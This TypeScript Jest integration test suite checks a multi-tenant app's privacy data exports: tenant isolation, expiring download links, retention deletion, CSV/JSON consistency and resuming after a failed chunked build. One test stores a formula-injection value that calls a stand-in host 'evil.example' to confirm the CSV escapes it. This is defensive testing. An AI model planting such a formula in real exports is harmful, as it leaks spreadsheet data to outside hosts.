import { PersonalDataTreatment } from '../src/common/privacy/personal-data';
import { Clock } from '../src/common/time/clock';
import { RetentionJobs } from '../src/audit/retention.jobs';
import { PortabilityExportJob } from '../src/privacy/exports/export.job';
import { PrivacyJobRunner } from '../src/privacy/jobs/privacy-job.runner';
import { PersonalDataRegistry } from '../src/privacy/personal-data/personal-data.registry';
import { createClient, createContact, createOrder, signUpOwner, type SignedUpOwner } from './support/fixtures';
import { isolatedDatabase, type IsolatedDatabase } from './support/database';
import { dataOf, type TestServer, startTestServer } from './support/test-server';
import { unzip } from './support/zip';
import { ifCreated } from './support/required';

const FIELDS = `id status attempts stepsDone lastError exportLink { path expiresAt } events { kind step linkExpiresAt }`;
const DAY = 24 * 60 * 60 * 1000;

interface Request {
  id: string;
  status: string;
  attempts: number;
  stepsDone: string[];
  lastError: string | null;
  exportLink: { path: string; expiresAt: string } | null;
  events: { kind: string; step: string | null; linkExpiresAt: string | null }[];
}

interface SubjectJson {
  formatVersion: number;
  subject: { kind: string; id: string };
  tables: Record<string, { module: string; description: string; columns: string[]; rows: Record<string, unknown>[] }>;
}

/** RFC 4180, enough for the files this app writes. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i += 1;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i += 1;
    } else cell += c;
  }
  return rows;
}

function csvText(value: unknown): string {
  if (value === null || value === undefined) return '';
  if (typeof value === 'string' && /^[=+\-@\t\r]/.test(value) && !/^[-+]?\d+(\.\d+)?$/.test(value)) return `'${value}`;
  if (typeof value === 'string') return value;
  if (typeof value === 'number' || typeof value === 'boolean' || typeof value === 'bigint') return value.toString();
  return JSON.stringify(value);
}

/** A database of the suite's own: the job runner takes every due job it finds, and other suites run jobs too. */
let db: IsolatedDatabase;

describe('access and portability exports', () => {
  let server: TestServer;
  let owner: SignedUpOwner;
  let other: SignedUpOwner;
  let runner: PrivacyJobRunner;
  let clock: Clock;
  let registry: PersonalDataRegistry;

  const gql = async <T>(token: string, query: string, variables?: Record<string, unknown>) => dataOf(await server.gql<T>({ query, variables, token }));
  const download = async (path: string) => {
    const response = await fetch(`${server.url}${path}`);
    return { status: response.status, headers: response.headers, body: Buffer.from(await response.arrayBuffer()) };
  };
  const declaredFor = (kind: 'user' | 'contact') =>
    registry
      .tables()
      .filter((t) => t.links.some((l) => l.subject === kind))
      .map((t) => t.table)
      .sort();

  /** Every table appears in both files, with the same rows; returns the JSON document. */
  function checkArchive(files: Map<string, string>, kind: 'user' | 'contact'): SubjectJson {
    const json = JSON.parse(files.get('subject.json') ?? '{}') as SubjectJson;
    expect(files.get('README.txt')).toContain('formatVersion');
    expect(Object.keys(json.tables).sort()).toEqual(declaredFor(kind));
    for (const [table, { columns, rows }] of Object.entries(json.tables)) {
      const kept =
        registry
          .table(table)
          ?.columns.filter((c) => c.treatment === PersonalDataTreatment.KEEP)
          .map((c) => c.column) ?? [];
      for (const column of kept) expect(columns).not.toContain(column);
      const csv = parseCsv(files.get(`${table}.csv`) ?? '');
      expect(csv[0]).toEqual(columns);
      expect(csv.slice(1)).toEqual(rows.map((row) => columns.map((c) => csvText(row[c]))));
    }
    return json;
  }

  beforeAll(async () => {
    db = await isolatedDatabase();
    server = await startTestServer({ DATABASE_URL: db.url, MAINTENANCE_INTERVAL_MINUTES: '0' });
    runner = server.app.get(PrivacyJobRunner);
    clock = server.app.get(Clock);
    registry = server.app.get(PersonalDataRegistry);
    [owner, other] = await Promise.all([signUpOwner(server), signUpOwner(server)]);
  });
  afterEach(() => jest.restoreAllMocks());
  afterAll(async () => {
    await ifCreated(server)?.close();
    await ifCreated(db)?.drop();
  });

  it("exports a contact's data from every declared table, only theirs, behind a link that expires and is then deleted", async () => {
    const clientId = (await createClient(server, owner)).id;
    const contact = await createContact(server, owner, clientId, { email: 'ada@client.example', lastName: 'Lovelace, "Countess"' });
    const bystander = await createContact(server, owner, clientId, { email: 'bob@client.example' });
    await createOrder(server, owner, clientId, { contactId: contact.id, notes: 'Deliver to\nthe back door' });
    // Typed by someone else, opened by the person in a spreadsheet: the CSV must not let it run as a formula.
    const formula = '=HYPERLINK("http://evil.example/?"&A1,"Open")';
    await createOrder(server, owner, clientId, { contactId: contact.id, notes: formula });
    await createOrder(server, owner, clientId, { contactId: bystander.id });
    const otherClient = (await createClient(server, other)).id;
    await createContact(server, other, otherClient, { email: 'ada@client.example' });

    const filed = await gql<{ filePrivacyRequest: Request }>(
      owner.accessToken,
      `mutation($input: FilePrivacyRequestInput!) { filePrivacyRequest(input: $input) { ${FIELDS} } }`,
      {
        input: { contactId: contact.id, type: 'PORTABILITY', note: 'By email.' },
      },
    );
    await gql(owner.accessToken, `mutation($input: VerifyPrivacyRequestInput!) { verifyPrivacyRequest(input: $input) { id } }`, {
      input: { id: filed.filePrivacyRequest.id, method: 'EMAIL_CONFIRMATION', note: 'Replied from the address on file.' },
    });
    await runner.runDue();
    const done = (
      await gql<{ privacyRequest: Request }>(owner.accessToken, `query($id: ID!) { privacyRequest(id: $id) { ${FIELDS} } }`, {
        id: filed.filePrivacyRequest.id,
      })
    ).privacyRequest;
    expect(done).toMatchObject({ status: 'COMPLETED', stepsDone: ['start', 'build', 'publish', 'complete'], lastError: null });
    const publish = done.events.find((e) => e.step === 'publish');
    expect(publish?.linkExpiresAt).toBe(done.exportLink?.expiresAt);
    const expiresAt = new Date(done.exportLink?.expiresAt ?? 0).getTime();
    expect(Math.abs(expiresAt - Date.now() - 7 * DAY)).toBeLessThan(60_000);

    const file = await download(done.exportLink?.path ?? '');
    expect(file.status).toBe(200);
    expect(file.headers.get('content-type')).toBe('application/zip');
    expect(file.headers.get('content-disposition')).toMatch(/^attachment; filename="promox-data-.*\.zip"$/);
    const json = checkArchive(await unzip(file.body), 'contact');
    expect(json.subject).toEqual({ kind: 'contact', id: contact.id });
    expect(json.tables.contact.rows).toEqual([expect.objectContaining({ id: contact.id, email: 'ada@client.example', last_name: 'Lovelace, "Countess"' })]);
    expect(json.tables.order.rows).toEqual([
      expect.objectContaining({ contact_id: contact.id, notes: 'Deliver to\nthe back door' }),
      expect.objectContaining({ contact_id: contact.id, notes: formula }),
    ]);
    const files = await unzip(file.body);
    expect(parseCsv(files.get('order.csv') ?? '').some((row) => row.includes(`'${formula}`))).toBe(true);
    expect(JSON.stringify(json)).not.toContain(bystander.id);
    expect(JSON.stringify(json)).not.toContain(other.tenantId);

    // Other tenants' members can not see the link; the owner's other requests carry none.
    expect(
      (await gql<{ privacyRequests: { edges: unknown[] } }>(other.accessToken, `{ privacyRequests(first: 50) { edges { node { id } } } }`)).privacyRequests
        .edges,
    ).toEqual([]);

    // Unknown and malformed tokens answer as an expired one will.
    expect((await download('/privacy/exports/AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA')).status).toBe(404);
    expect((await download('/privacy/exports/x')).status).toBe(404);

    // After seven days the link answers 404, the request stops showing it, and retention deletes the bytes.
    jest.spyOn(clock, 'now').mockReturnValue(new Date(expiresAt + 1));
    expect((await download(done.exportLink?.path ?? '')).status).toBe(404);
    const later = (await gql<{ privacyRequest: Request }>(owner.accessToken, `query($id: ID!) { privacyRequest(id: $id) { ${FIELDS} } }`, { id: done.id }))
      .privacyRequest;
    expect(later.exportLink).toBeNull();
    const result = await server.app.get(RetentionJobs).run(new Date(expiresAt + 1));
    expect(result.exportFilesDeleted).toBeGreaterThanOrEqual(1);
    const [stored] = await db.query<{ chunks: string; file_deleted_at: Date | null }>(
      `select (select count(*) from privacy_export_chunk c where c.export_id = e.id) as chunks, file_deleted_at from privacy_export e where request_id = $1`,
      [done.id],
    );
    expect(Number(stored.chunks)).toBe(0);
    expect(stored.file_deleted_at).not.toBeNull();
  });

  it("exports a user's own data across their tenants and the platform, and their token opens only their file", async () => {
    const user = await signUpOwner(server);
    // A tenant they worked in and left: what they wrote there is still theirs, though no membership names it now.
    const former = await signUpOwner(server);
    const { inviteMember } = await gql<{ inviteMember: { token: string } }>(
      former.accessToken,
      `mutation($input: InviteMemberInput!) { inviteMember(input: $input) { token } }`,
      {
        input: { email: user.email, role: 'SALES_REP' },
      },
    );
    await gql(user.accessToken, `mutation($input: AcceptInvitationInput!) { acceptInvitation(input: $input) { accessToken } }`, {
      input: { token: inviteMember.token },
    });
    const { switchTenant } = await gql<{ switchTenant: { accessToken: string } }>(
      user.accessToken,
      `mutation($input: SwitchTenantInput!) { switchTenant(input: $input) { accessToken } }`,
      {
        input: { tenantId: former.tenantId },
      },
    );
    const { createSupportRequest } = await gql<{ createSupportRequest: { id: string } }>(
      switchTenant.accessToken,
      `mutation($input: CreateSupportRequestInput!) { createSupportRequest(input: $input) { id } }`,
      {
        input: { subject: 'Before I leave', body: 'Where do proofs go?' },
      },
    );
    const { members } = await gql<{ members: { id: string; userId: string }[] }>(former.accessToken, `{ members { id userId } }`);
    const membership = members.find((m) => m.userId === user.userId);
    await gql(former.accessToken, `mutation($input: MemberIdInput!) { removeMember(input: $input) { id } }`, { input: { memberId: membership?.id } });
    const REQUEST = `mutation($input: RequestMyDataInput) { requestMyData(input: $input) { ${FIELDS} } }`;
    await gql(user.accessToken, REQUEST, { input: { type: 'ACCESS' } });
    await gql(other.accessToken, REQUEST, { input: { type: 'ACCESS' } });
    await runner.runDue();
    const mine = (await gql<{ myPrivacyRequests: Request[] }>(user.accessToken, `{ myPrivacyRequests { ${FIELDS} } }`)).myPrivacyRequests[0];
    const theirs = (await gql<{ myPrivacyRequests: Request[] }>(other.accessToken, `{ myPrivacyRequests { ${FIELDS} } }`)).myPrivacyRequests[0];
    expect(mine.status).toBe('COMPLETED');
    expect(mine.exportLink?.path).not.toBe(theirs.exportLink?.path);

    const json = checkArchive(await unzip((await download(mine.exportLink?.path ?? '')).body), 'user');
    expect(json.subject).toEqual({ kind: 'user', id: user.userId });
    expect(json.tables.user.rows).toEqual([expect.objectContaining({ id: user.userId, email: user.email })]);
    expect(json.tables.user.columns).not.toContain('password_hash');
    expect(json.tables.membership.rows).toEqual([expect.objectContaining({ user_id: user.userId, role: 'OWNER' })]);
    expect(json.tables.support_request.rows).toEqual([expect.objectContaining({ id: createSupportRequest.id, subject: 'Before I leave' })]);
    // Their tenant's audit trail names them as the actor of their sign-up; nothing of another user's.
    expect(json.tables.audit_entry.rows.length).toBeGreaterThan(0);
    expect(JSON.stringify(json)).not.toContain(other.userId);
    expect(JSON.stringify(json)).not.toContain(other.email);
  });

  it('resumes a build that failed part-way, after chunks were written: the retry stores one complete file and nothing of the failed attempt', async () => {
    const tenant = await signUpOwner(server);
    const clientId = (await createClient(server, tenant)).id;
    const contact = await createContact(server, tenant, clientId, { email: 'grace@client.example' });
    for (const n of [1, 2, 3])
      await createOrder(server, tenant, clientId, { contactId: contact.id, notes: `Order ${n}: ${'deliver to the loading dock; '.repeat(20)}` });
    const job = server.app.get(PortabilityExportJob);
    const chunkBytes = job.chunkBytes;
    job.chunkBytes = 512;
    // The database refuses this tenant's fourth chunk (seq 3): the build fails after writing chunks 0-2 in its
    // transaction. A sequence, which a rollback does not undo, counts the chunks the failed attempt wrote.
    const fault = `expm_fault_${tenant.tenantId.replaceAll('-', '')}`;
    await db.query(`create sequence ${fault}_seen`);
    await db.query(
      `create function ${fault}() returns trigger security definer as $$ begin
         if current_setting('app.tenant_id', true) = '${tenant.tenantId}' then
           perform nextval('${fault}_seen');
           if new.seq = 3 then raise exception 'disk full while writing chunk %', new.seq; end if;
         end if;
         return new; end; $$ language plpgsql`,
    );
    await db.query(`create trigger ${fault} before insert on privacy_export_chunk for each row execute function ${fault}()`);
    const storedFiles = async (requestId: string) =>
      db.query<{ id: string; byte_size: string; seqs: number[] | null; sizes: number[] | null }>(
        `select e.id, e.byte_size, array_agg(c.seq order by c.seq) as seqs, array_agg(length(c.data) order by c.seq) as sizes
           from privacy_export e left join privacy_export_chunk c on c.export_id = e.id where e.request_id = $1 group by e.id`,
        [requestId],
      );
    try {
      const filed = await gql<{ filePrivacyRequest: Request }>(
        tenant.accessToken,
        `mutation($input: FilePrivacyRequestInput!) { filePrivacyRequest(input: $input) { id } }`,
        {
          input: { contactId: contact.id, type: 'PORTABILITY' },
        },
      );
      const id = filed.filePrivacyRequest.id;
      await gql(tenant.accessToken, `mutation($input: VerifyPrivacyRequestInput!) { verifyPrivacyRequest(input: $input) { id } }`, {
        input: { id, method: 'EMAIL_CONFIRMATION', note: 'Replied from the address on file.' },
      });
      const read = async () =>
        (await gql<{ privacyRequest: Request }>(tenant.accessToken, `query($id: ID!) { privacyRequest(id: $id) { ${FIELDS} } }`, { id })).privacyRequest;

      await runner.runDue();
      const failed = await read();
      expect(failed).toMatchObject({ status: 'IN_PROGRESS', attempts: 1, stepsDone: ['start'], exportLink: null });
      expect(failed.lastError).toMatch(/^Database error \(reference [0-9a-f-]{36}\)\.$/);
      expect(failed.events.filter((e) => e.kind === 'ATTEMPT_FAILED').map((e) => e.step)).toEqual(['build']);
      const [{ seen }] = await db.query<{ seen: string }>(`select last_value as seen from ${fault}_seen`);
      expect(Number(seen)).toBe(4);
      // The failed attempt's transaction took its file row and its three chunks with it.
      expect(await storedFiles(id)).toEqual([]);

      await db.query(`drop trigger ${fault} on privacy_export_chunk`);
      // The retry is due after the backoff (30 s after the first attempt).
      jest.spyOn(clock, 'now').mockReturnValue(new Date(Date.now() + 5 * 60_000));
      await runner.runDue();
      const done = await read();
      expect(done).toMatchObject({ status: 'COMPLETED', attempts: 2, stepsDone: ['start', 'build', 'publish', 'complete'], lastError: null });

      const files = await storedFiles(id);
      expect(files).toHaveLength(1);
      const [{ byte_size, seqs, sizes }] = files;
      const count = seqs?.length ?? 0;
      expect(count).toBeGreaterThan(4);
      expect(seqs).toEqual([...Array(count).keys()]);
      // Every chunk but the last is full; together they are the file, and the download is exactly them.
      expect(sizes?.slice(0, -1).every((size) => size === 512)).toBe(true);
      expect(sizes?.at(-1)).toBeGreaterThan(0);
      expect(sizes?.at(-1)).toBeLessThanOrEqual(512);
      expect(sizes?.reduce((a, b) => a + b, 0)).toBe(Number(byte_size));
      const [{ chunks: otherChunks }] = await db.query<{ chunks: string }>(
        `select count(*) as chunks from privacy_export_chunk c join privacy_export e on e.id = c.export_id where e.tenant_id = $1 and e.request_id <> $2`,
        [tenant.tenantId, id],
      );
      expect(Number(otherChunks)).toBe(0);

      const file = await download(done.exportLink?.path ?? '');
      expect(file.status).toBe(200);
      expect(file.body.length).toBe(Number(byte_size));
      const json = checkArchive(await unzip(file.body), 'contact');
      expect(json.subject).toEqual({ kind: 'contact', id: contact.id });
      expect(json.tables.order.rows).toHaveLength(3);
      expect(json.tables.order.rows.map((row) => row.notes)).toEqual(
        expect.arrayContaining([expect.stringMatching(/^Order 1: /), expect.stringMatching(/^Order 3: /)]),
      );
    } finally {
      job.chunkBytes = chunkBytes;
      await db.query(`drop trigger if exists ${fault} on privacy_export_chunk`);
      await db.query(`drop function if exists ${fault}()`);
      await db.query(`drop sequence if exists ${fault}_seen`);
    }
  });
});
